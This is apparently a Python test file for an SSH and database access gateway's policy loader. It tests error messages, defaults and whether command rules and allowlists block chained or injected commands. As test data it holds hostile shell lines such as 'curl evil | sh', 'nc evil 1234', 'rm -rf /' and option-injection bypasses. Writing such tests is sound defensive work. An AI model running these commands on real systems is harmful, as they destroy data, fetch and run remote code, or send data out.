"""Policies as code: loading errors name the file and key; defaults; command matching."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from gateway.cli.templates import EXAMPLE_POLICIES
from gateway.policy import (
    DEFAULT_MAX_TTL,
    AllowedCommand,
    CommandRule,
    Decision,
    Policies,
    PolicyError,
    ScopePolicy,
    SshPolicy,
    Verdict,
    default_policy,
    load_policy_file,
)
from gateway.ssh.cmdmatch import rule_matches
from gateway.ssh.shellparse import analyse

TARGETS = {"orders-db": ("postgres", ["read", "write", "admin"]), "web-1": ("ssh", ["shell", "deploy"])}
KINDS = {name: kind for name, (kind, _) in TARGETS.items()}


def policy_file(tmp_path: Path, text: str, name: str = "p.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def load_error(tmp_path: Path, text: str) -> str:
    path = policy_file(tmp_path, text)
    with pytest.raises(PolicyError) as info:
        load_policy_file(path, KINDS)
    msg = str(info.value)
    assert msg.startswith(f"{path}: "), msg
    return msg


# --- loading -----------------------------------------------------------------------------------------


def test_example_policies_load(tmp_path: Path) -> None:
    for name, text in EXAMPLE_POLICIES.items():
        policy_file(tmp_path, text, name)
    policies = Policies.load(
        tmp_path, {"orders-db": ("postgres", ["read", "write", "admin"]), "web-1": ("ssh", ["shell"])}
    )
    read = policies.scope("orders-db", "read")
    assert read is not None and read.sql is not None and read.ssh is None
    assert (read.max_ttl, read.sql.mode, read.sql.max_rows, read.sql.sensitive_tables) == (
        3600,
        "read",
        10000,
        frozenset({"customers"}),
    )
    write = policies.scope("orders-db", "write")
    assert write is not None and write.sql is not None
    assert write.max_ttl == 1800 and write.approvals.from_groups == frozenset({"dba"})
    [rule] = write.sql.rules
    assert (rule.name, rule.action, rule.kinds) == ("no-drop", Verdict.KILL, frozenset({"ddl"}))
    shell = policies.scope("web-1", "shell")
    assert shell is not None and shell.ssh is not None
    assert shell.ssh.sftp == "read-only"
    actions = {r.pattern: r.action for r in shell.ssh.command_rules}
    assert actions == {
        "rm -rf /*": Verdict.KILL,
        "sudo *": Verdict.ALERT,
        "regex:^(shutdown|reboot|halt)\\b": Verdict.DENY,
    }
    [reboot] = [r for r in shell.ssh.command_rules if r.action is Verdict.DENY]
    assert rule_matches_line(reboot, "reboot now") and rule_matches_line(reboot, "  shutdown -h now ")
    assert not rule_matches_line(reboot, "rebooting")
    assert policies.target("orders-db") is not None
    assert policies.target("orders-db").source.endswith("orders-db.yaml")  # type: ignore[union-attr]


def test_full_scope_is_parsed(tmp_path: Path) -> None:
    path = policy_file(
        tmp_path,
        """
target: orders-db
scopes:
  write:
    max_ttl: 45m
    requesters: {users: [alice], groups: [eng]}
    approvals: {count: 2, users: [bob], groups: dba}
    auto_approve: false
    sql:
      mode: write
      allow_functions: [Pg_Sleep]
      max_rows: 50
      sensitive_tables: [Customers]
      alert_write_without_where: false
      rules:
        - {name: no-truncate, kinds: [TRUNCATE], action: deny}
        - {pattern: "drop\\\\s+table", action: kill}
        - {tables: [Payments], functions: [LO_EXPORT], action: alert}
""",
    )
    tp = load_policy_file(path, KINDS)
    sp = tp.scopes["write"]
    assert sp.max_ttl == 2700
    assert sp.requesters_users == {"alice"} and sp.requesters_groups == {"eng"}
    approvals = sp.approvals
    assert (approvals.count, approvals.from_users, approvals.from_groups) == (2, frozenset({"bob"}), frozenset({"dba"}))
    assert sp.sql is not None
    assert sp.sql.extra_functions == {"pg_sleep"} and sp.sql.sensitive_tables == {"customers"}
    assert sp.sql.max_rows == 50 and sp.sql.alert_write_without_where is False
    r0, r1, r2 = sp.sql.rules
    assert (r0.name, r0.kinds, r0.action) == ("no-truncate", frozenset({"truncate"}), Verdict.DENY)
    assert r1.name == "rule-1" and r1.pattern is not None and r1.pattern.search("DROP   TABLE x")
    assert (r2.tables, r2.functions, r2.action) == (frozenset({"payments"}), frozenset({"lo_export"}), Verdict.ALERT)


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("target: orders-db\nowner: me\nscopes: {read: {}}\n", "(top).owner"),
        ("target: orders-db\nscopes: {read: {ttl: 1h}}\n", "scopes.read.ttl"),
        ("target: orders-db\nscopes: {read: {sql: {modes: read}}}\n", "scopes.read.sql.modes"),
        ("target: orders-db\nscopes: {read: {requesters: {teams: [a]}}}\n", "scopes.read.requesters.teams"),
        ("target: orders-db\nscopes: {read: {approvals: {min: 2}}}\n", "scopes.read.approvals.min"),
        ("target: orders-db\nscopes: {read: {sql: {rules: [{verdict: deny}]}}}\n", "scopes.read.sql.rules[0].verdict"),
        ("target: web-1\nscopes: {shell: {ssh: {sudo: true}}}\n", "scopes.shell.ssh.sudo"),
        (
            "target: web-1\nscopes: {shell: {ssh: {commands: [{pattern: x, when: y}]}}}\n",
            "scopes.shell.ssh.commands[0].when",
        ),
    ],
)
def test_unknown_keys(tmp_path: Path, text: str, key: str) -> None:
    msg = load_error(tmp_path, text)
    assert f": {key}: unknown key" in msg


@pytest.mark.parametrize("action", ["allow", "explode", "DENY", "''", "null", "1"])
def test_bad_sql_rule_action(tmp_path: Path, action: str) -> None:
    msg = load_error(tmp_path, f"target: orders-db\nscopes: {{read: {{sql: {{rules: [{{action: {action}}}]}}}}}}\n")
    assert ": scopes.read.sql.rules[0].action: must be one of alert, deny, kill" in msg


@pytest.mark.parametrize("action", ["allow", "explode"])
def test_bad_ssh_command_action(tmp_path: Path, action: str) -> None:
    msg = load_error(
        tmp_path, f"target: web-1\nscopes: {{shell: {{ssh: {{commands: [{{pattern: 'rm *', action: {action}}}]}}}}}}\n"
    )
    assert "must be one of alert, deny, kill" in msg
    assert "scopes.shell.ssh.commands[0]" in msg


def test_bad_ssh_command_action_names_the_action_key(tmp_path: Path) -> None:
    # Like the SQL rules (and the PolicyError contract: "names the file, the key and the fix"),
    # the error should point at `.action`, not just at the rule.
    msg = load_error(
        tmp_path, "target: web-1\nscopes: {shell: {ssh: {commands: [{pattern: 'rm *', action: allow}]}}}\n"
    )
    assert ": scopes.shell.ssh.commands[0].action: " in msg


@pytest.mark.parametrize(
    ("text", "key"),
    [
        (
            "target: orders-db\nscopes: {read: {sql: {rules: [{pattern: '(unclosed', action: deny}]}}}\n",
            "scopes.read.sql.rules[0].pattern",
        ),
        (
            "target: web-1\nscopes: {shell: {ssh: {commands: [{pattern: 'regex:[a-', action: deny}]}}}\n",
            "scopes.shell.ssh.commands[0].pattern",
        ),
        (
            "target: web-1\nscopes: {shell: {ssh: {allowed_commands: ['ls *', 'regex:(?P<x']}}}\n",
            "scopes.shell.ssh.allowed_commands",
        ),
    ],
)
def test_bad_regex(tmp_path: Path, text: str, key: str) -> None:
    msg = load_error(tmp_path, text)
    assert f": {key}: invalid regular expression" in msg


@pytest.mark.parametrize(
    ("text", "key", "words"),
    [
        ("target: orders-db\nscopes: {read: {max_ttl: 10}}\n", "scopes.read.max_ttl", "invalid duration"),
        ("target: orders-db\nscopes: {read: {max_ttl: 0s}}\n", "scopes.read.max_ttl", "more than zero"),
        ("target: orders-db\nscopes: {read: {approvals: {count: -1}}}\n", "scopes.read.approvals.count", ">= 0"),
        ("target: orders-db\nscopes: {read: {approvals: {count: true}}}\n", "scopes.read.approvals.count", ">= 0"),
        ("target: orders-db\nscopes: {read: {sql: {mode: superuser}}}\n", "scopes.read.sql.mode", "read, write, admin"),
        ("target: orders-db\nscopes: {read: {sql: {max_rows: 0}}}\n", "scopes.read.sql.max_rows", ">= 1"),
        ("target: orders-db\nscopes: {read: {ssh: {shell: true}}}\n", "scopes.read.ssh", "take `sql`"),
        ("target: web-1\nscopes: {shell: {sql: {mode: read}}}\n", "scopes.shell.sql", "take `ssh`"),
        ("target: web-1\nscopes: {shell: {ssh: {sftp: maybe}}}\n", "scopes.shell.ssh.sftp", "read-only"),
        ("target: web-1\nscopes: {shell: {ssh: {shell: yes please}}}\n", "scopes.shell.ssh.shell", "true or false"),
        (
            "target: web-1\nscopes: {shell: {ssh: {commands: [{action: deny}]}}}\n",
            "scopes.shell.ssh.commands[0].pattern",
            "glob",
        ),
        (
            "target: orders-db\nscopes: {read: {requesters: {users: 5}}}\n",
            "scopes.read.requesters.users",
            "list of strings",
        ),
        ("target: orders-db\nscopes: []\n", "scopes", "mapping"),
        ("target: orders-db\n", "scopes", "mapping"),
        ("scopes: {read: {}}\n", "target", "must name a target"),
        ("target: billing-db\nscopes: {read: {}}\n", "target", "'billing-db' is not a configured target"),
        ("- a\n- b\n", "(top)", "must be a mapping"),
    ],
)
def test_bad_values(tmp_path: Path, text: str, key: str, words: str) -> None:
    msg = load_error(tmp_path, text)
    assert f": {key}: " in msg and words in msg, msg


def test_invalid_yaml(tmp_path: Path) -> None:
    msg = load_error(tmp_path, "target: orders-db\nscopes: {read: [unclosed\n")
    assert "cannot read policy" in msg


def test_target_not_in_config_names_the_fix(tmp_path: Path) -> None:
    msg = load_error(tmp_path, "target: billing-db\nscopes: {read: {}}\n")
    assert "[targets.billing-db]" in msg


def test_duplicate_target_across_files(tmp_path: Path) -> None:
    a = policy_file(tmp_path, "target: orders-db\nscopes: {read: {max_ttl: 1h}}\n", "a.yaml")
    b = policy_file(tmp_path, "target: orders-db\nscopes: {read: {max_ttl: 2h}}\n", "b.yml")
    with pytest.raises(PolicyError) as info:
        Policies.load(tmp_path, TARGETS)
    msg = str(info.value)
    assert msg.startswith(f"{b}: target: 'orders-db' already has a policy in {a}")


def test_non_yaml_files_are_ignored(tmp_path: Path) -> None:
    policy_file(tmp_path, "not: [valid", "README.md")
    policy_file(tmp_path, "target: billing-db\n", "old.yaml.bak")
    policies = Policies.load(tmp_path, TARGETS)
    assert policies.target("orders-db") is not None and policies.target("orders-db").source == "built-in default"  # type: ignore[union-attr]


# --- defaults ----------------------------------------------------------------------------------------


def test_targets_without_a_file_get_the_default(tmp_path: Path) -> None:
    policy_file(tmp_path, "target: orders-db\nscopes: {read: {max_ttl: 5m}}\n", "orders.yaml")
    policies = Policies.load(tmp_path, TARGETS)
    # orders-db: only what the file lists
    orders = policies.target("orders-db")
    assert orders is not None and set(orders.scopes) == {"read"}
    assert policies.scope("orders-db", "write") is None
    # web-1: every login scope, 1 h, ssh defaults (no forwarding), one approval
    web = policies.target("web-1")
    assert web is not None and web.source == "built-in default" and set(web.scopes) == {"shell", "deploy"}
    for sp in web.scopes.values():
        assert sp.max_ttl == DEFAULT_MAX_TTL == 3600
        assert sp.ssh == SshPolicy() and sp.sql is None
        assert sp.approvals.count == 1 and not sp.auto_approve
        assert not sp.ssh.local_forwarding  # remote, agent and X11 forwarding have no switch: always refused
    assert [t.target for t in policies.targets()] == ["orders-db", "web-1"]
    assert policies.scope("nope", "read") is None and policies.target("nope") is None


def test_missing_policy_folder_means_all_defaults(tmp_path: Path) -> None:
    policies = Policies.load(tmp_path / "does-not-exist", TARGETS)
    assert set(policies.target("orders-db").scopes) == {"read", "write", "admin"}  # type: ignore[union-attr]
    assert Policies.load(None, TARGETS).scope("web-1", "deploy") is not None


@pytest.mark.parametrize(
    ("scope", "mode"), [("read", "read"), ("write", "write"), ("admin", "admin"), ("oncall", "read")]
)
def test_default_sql_mode_follows_the_scope_name(scope: str, mode: str) -> None:
    sp = default_policy("db", "postgres", [scope]).scopes[scope]
    assert sp.sql is not None and sp.sql.mode == mode and sp.ssh is None


def test_scope_defaults_inside_a_file(tmp_path: Path) -> None:
    tp = load_policy_file(policy_file(tmp_path, "target: orders-db\nscopes: {admin: {}, ops: {}}\n"), KINDS)
    assert tp.scopes["admin"].sql is not None and tp.scopes["admin"].sql.mode == "admin"
    assert tp.scopes["ops"].sql is not None and tp.scopes["ops"].sql.mode == "read"
    assert tp.scopes["ops"].max_ttl == 3600


def test_allowlist_turns_the_shell_off_by_default(tmp_path: Path) -> None:
    tp = load_policy_file(
        policy_file(
            tmp_path,
            """
target: web-1
scopes:
  deploy: {ssh: {allowed_commands: [deploy.sh, "systemctl status *"]}}
  both: {ssh: {allowed_commands: [uptime], shell: true}}
""",
        ),
        KINDS,
    )
    deploy = tp.scopes["deploy"].ssh
    assert deploy is not None and deploy.shell is False and deploy.exec is True
    assert deploy.allowed_commands == (AllowedCommand("deploy.sh"), AllowedCommand("systemctl status *"))
    both = tp.scopes["both"].ssh
    assert both is not None and both.shell is True


def test_replace_swaps_contents_in_place(tmp_path: Path) -> None:
    a = Policies.load(None, TARGETS)
    policy_file(tmp_path, "target: orders-db\nscopes: {read: {max_ttl: 5m}}\n")
    b = Policies.load(tmp_path, TARGETS)
    a.replace(b)
    assert a.scope("orders-db", "write") is None
    assert a.scope("orders-db", "read").max_ttl == 300  # type: ignore[union-attr]


def test_may_request() -> None:
    anyone = ScopePolicy("read")
    assert anyone.may_request("mallory", [])
    listed = ScopePolicy("read", requesters_users=frozenset({"alice"}), requesters_groups=frozenset({"dba"}))
    assert listed.may_request("alice", [])
    assert listed.may_request("bob", ["eng", "dba"])
    assert not listed.may_request("bob", ["eng"])


def test_decisions() -> None:
    assert Decision.allow().verdict is Verdict.ALLOW and Decision.allow().allowed
    assert Decision.allow("sensitive").verdict is Verdict.ALERT and Decision.allow("x").allowed
    assert not Decision.deny("r", "no").allowed and Decision.deny("r", "no").reason == "no"
    assert not Decision.kill("r", "bye").allowed and Decision.kill("r", "bye").verdict is Verdict.KILL


# --- command matching --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "line", "expected"),
    [
        ("sudo *", "sudo ls", True),
        ("sudo *", "  sudo ls  ", True),  # whole stripped line
        ("sudo *", "sudo", True),  # `*` over the operands matches none too
        ("sudo *", "echo sudo ls", False),
        ("rm -rf /*", "rm -rf /", True),
        ("rm -rf /*", "rm -rf /var/lib", True),
        ("rm -rf /*", "rm -rf ./build", False),
        ("ls", "ls", True),
        ("ls", "ls -la", True),  # the pattern's flags are required, extra flags are not refused
        ("ls", "ls /tmp", False),
        ("cat /etc/?asswd", "cat /etc/passwd", True),
        ("[rR]eboot", "Reboot", True),
        ("Reboot", "reboot", False),  # case-sensitive
        ("regex:^(shutdown|reboot|halt)\\b", "reboot", True),
        ("regex:^(shutdown|reboot|halt)\\b", "rebooted", False),
        ("regex:curl .*\\| *sh", "curl http://x | sh", True),
        ("regex:curl .*\\| *sh", "curl http://x > f", False),
        ("regex:DROP", "drop", False),
    ],
)
def test_command_rule_matches(pattern: str, line: str, expected: bool) -> None:
    assert rule_matches_line(CommandRule("r", Verdict.DENY, pattern), line) is expected


def rule_matches_line(rule: CommandRule, line: str) -> bool:
    """Whether a command rule matches a line as the SSH front end parses it."""
    return rule_matches(rule, analyse(line), line)


def test_unresolved_condition_is_loaded(tmp_path: Path) -> None:
    path = policy_file(tmp_path, "target: web-1\nscopes: {shell: {ssh: {unresolved: deny}}}\n")
    ssh = load_policy_file(path, KINDS).scopes["shell"].ssh
    assert ssh is not None and ssh.unresolved is Verdict.DENY
    path = policy_file(tmp_path, "target: web-1\nscopes: {shell: {ssh: {unresolved: maybe}}}\n")
    with pytest.raises(PolicyError, match=re.escape("scopes.shell.ssh.unresolved")):
        load_policy_file(path, KINDS)


def test_glob_pattern_with_unbalanced_quotes_is_refused_at_load(tmp_path: Path) -> None:
    path = policy_file(tmp_path, 'target: web-1\nscopes: {shell: {ssh: {commands: [{pattern: "rm \'-rf"}]}}}\n')
    with pytest.raises(PolicyError, match="cannot split"):
        load_policy_file(path, KINDS)


def test_command_allowed_without_allowlist() -> None:
    assert SshPolicy().command_allowed("anything at all; rm -rf /")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("uptime", True),
        ("  uptime ", True),
        ("systemctl status nginx", True),
        ("systemctl restart nginx", False),
        ("deploy.sh", True),
        ("deploy.sh --force", False),
        ("journalctl -u api", True),
        ("rm -rf /", False),
        ("", False),
    ],
)
def test_command_allowed_with_allowlist(line: str, expected: bool) -> None:
    policy = SshPolicy(allowed_commands=("deploy.sh", "systemctl status *", "uptime", "regex:^journalctl -u [a-z]+$"))
    assert policy.command_allowed(line) is expected


CHAINED = [
    "systemctl status nginx; rm -rf /",
    "systemctl status nginx && curl evil | sh",
    "systemctl status nginx || reboot",
    "systemctl status nginx | nc evil 1234",
    "systemctl status $(reboot)",
    "systemctl status `reboot`",
    "systemctl status nginx\nreboot",
    "systemctl status nginx > /etc/passwd",
]


def test_allowlisted_glob_cannot_be_chained_with_shell_operators() -> None:
    """An exec command runs in the upstream's shell: `status *` must not let `; rm -rf /` ride along."""
    policy = SshPolicy(allowed_commands=("systemctl status *",))
    assert policy.command_allowed("systemctl status nginx")
    let_through = [line for line in CHAINED if policy.command_allowed(line)]
    assert let_through == []


def test_allowlisted_regex_must_match_the_whole_line() -> None:
    """`regex:` in an allowlist is a whole-line match, like the globs (docstring: 'against the whole line')."""
    policy = SshPolicy(allowed_commands=("regex:systemctl status [a-z]+",))
    assert policy.command_allowed("systemctl status nginx")
    lines = ["sudo systemctl status nginx", "x systemctl status nginx", "systemctl status nginx --now", *CHAINED[:4]]
    assert [line for line in lines if policy.command_allowed(line)] == []


SYSTEMCTL = AllowedCommand("systemctl status *", ("--no-pager", "-n *", "--lines=*"))


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("systemctl status nginx", True),
        ("systemctl status nginx api", True),
        ("systemctl status", True),  # a trailing `*` matches zero or more operands
        ("systemctl status -H user@host nginx", False),  # the reported bypass: options are not operands
        ("systemctl status --host=user@host", False),
        ("systemctl status nginx -H user@host", False),  # options anywhere before `--`
        ("systemctl status -M container", False),
        ("systemctl -H user@host status nginx", False),
        ("systemctl status --no-pager nginx", True),  # listed in options
        ("systemctl status -n 50 nginx", True),  # an option with its value
        ("systemctl status -n -H nginx", False),  # the value of -n is not an option
        ("systemctl status --lines=5 nginx", True),
        ("systemctl status -- -H", True),  # after `--` every word is an operand (a unit called -H)
        ("systemctl status '-H' x", False),  # quoting does not turn an option into an operand
        ("systemctl restart nginx", False),
    ],
)
def test_allowlist_globs_do_not_match_options(line: str, expected: bool) -> None:
    assert SshPolicy(allowed_commands=(SYSTEMCTL,)).command_allowed(line) is expected


@pytest.mark.parametrize(
    ("pattern", "line", "expected"),
    [
        ("ls -l *", "ls -l /tmp", True),  # an option written in the pattern is allowed where written
        ("ls -l *", "ls -la /tmp", False),
        ("ls -l *", "ls /tmp", False),
        ("ls *", "ls -l", False),
        ("cat *", "cat /etc/hostname", True),
        ("cat *", "cat - ", True),  # `-` alone (stdin) is an operand
        ("journalctl -u *", "journalctl -u nginx", True),
        ("journalctl -u *", "journalctl -u nginx --since=-1d", False),
        ("tail -n * *", "tail -n 10 /var/log/x", True),
        ("deploy.sh", "deploy.sh", True),
        ("deploy.sh", "deploy.sh now", False),
        ("git log -- *", "git log -- -p", True),
    ],
)
def test_allowlist_word_matching(pattern: str, line: str, expected: bool) -> None:
    assert AllowedCommand(pattern).matches(line) is expected


def test_allowlist_entries_with_options_are_loaded(tmp_path: Path) -> None:
    path = policy_file(
        tmp_path,
        "target: web-1\nscopes: {shell: {ssh: {allowed_commands: ['uptime', "
        "{pattern: 'systemctl status *', options: ['--no-pager', '-n *']}]}}}\n",
    )
    ssh = load_policy_file(path, KINDS).scopes["shell"].ssh
    assert ssh is not None
    assert ssh.allowed_commands == (
        AllowedCommand("uptime"),
        AllowedCommand("systemctl status *", ("--no-pager", "-n *")),
    )
    bad = policy_file(
        tmp_path, "target: web-1\nscopes: {shell: {ssh: {allowed_commands: [{pattern: x, options: [y]}]}}}\n"
    )
    with pytest.raises(PolicyError, match="is not an option"):
        load_policy_file(bad, KINDS)


def test_command_rule_regex_is_compiled_at_load(tmp_path: Path) -> None:
    # a regex that only fails at match time would be a crash in a live session: load refuses it instead
    path = policy_file(tmp_path, "target: web-1\nscopes: {shell: {ssh: {commands: [{pattern: 'regex:a{2,1}'}]}}}\n")
    with pytest.raises(PolicyError, match=re.escape("invalid regular expression")):
        load_policy_file(path, KINDS)


@pytest.mark.parametrize("flag", ["remote_forwarding", "agent_forwarding", "x11_forwarding"])
def test_unsupported_forwarding_cannot_be_turned_on(tmp_path: Path, flag: str) -> None:
    msg = load_error(tmp_path, f"target: web-1\nscopes:\n  shell:\n    ssh: {{{flag}: true}}\n")
    assert f"scopes.shell.ssh.{flag}" in msg and "not supported" in msg
    tp = load_policy_file(
        policy_file(tmp_path, f"target: web-1\nscopes:\n  shell:\n    ssh: {{{flag}: false}}\n"), KINDS
    )
    assert tp.scopes["shell"].ssh is not None


@pytest.mark.parametrize(("text", "expected"), [("kill", "kill"), ("alert", "alert"), ("off", "off"), ('"off"', "off")])
def test_detached_mode_is_loaded(tmp_path: Path, text: str, expected: str) -> None:
    path = policy_file(tmp_path, f"target: web-1\nscopes: {{shell: {{ssh: {{detached: {text}}}}}}}\n")
    ssh = load_policy_file(path, KINDS).scopes["shell"].ssh
    assert ssh is not None and ssh.detached == expected
    assert SshPolicy().detached == "kill"


def test_detached_mode_must_be_known(tmp_path: Path) -> None:
    path = policy_file(tmp_path, "target: web-1\nscopes: {shell: {ssh: {detached: maybe}}}\n")
    with pytest.raises(PolicyError, match=re.escape("scopes.shell.ssh.detached")):
        load_policy_file(path, KINDS)


@pytest.mark.parametrize("line", ["systemctl status *", "systemctl status ngin?", "systemctl status [n]ginx",
                                  "systemctl status {a,b}"])  # fmt: skip
def test_allowlisted_command_cannot_glob(line: str) -> None:
    """The target's shell expands globs: a file named `-H` would become an option nobody checked."""
    assert not SshPolicy(allowed_commands=("systemctl status *",)).command_allowed(line)
